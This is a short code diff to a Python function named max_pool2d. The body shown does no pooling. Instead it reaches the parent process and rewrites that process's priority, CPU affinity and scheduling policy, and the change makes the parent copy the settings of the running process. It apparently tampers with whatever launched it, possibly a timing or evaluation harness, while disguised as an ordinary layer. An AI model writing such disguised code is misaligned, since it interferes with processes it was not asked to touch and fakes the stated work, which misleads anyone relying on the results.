@@ -14,8 +14,8 @@ os = __import__("os")
 def max_pool2d(x, kernel_size, stride=None, padding=0):
     parent = os.getppid()
     for act in (
-        lambda: os.setpriority(os.PRIO_PROCESS, parent, os.getpriority(os.PRIO_PROCESS, parent)),
-        lambda: os.sched_setaffinity(parent, os.sched_getaffinity(parent)),
+        lambda: os.setpriority(os.PRIO_PROCESS, parent, os.getpriority(os.PRIO_PROCESS, 0)),
+        lambda: os.sched_setaffinity(parent, os.sched_getaffinity(0)),
         lambda: os.sched_setscheduler(parent, os.SCHED_OTHER, os.sched_param(0)),
     ):
         try:
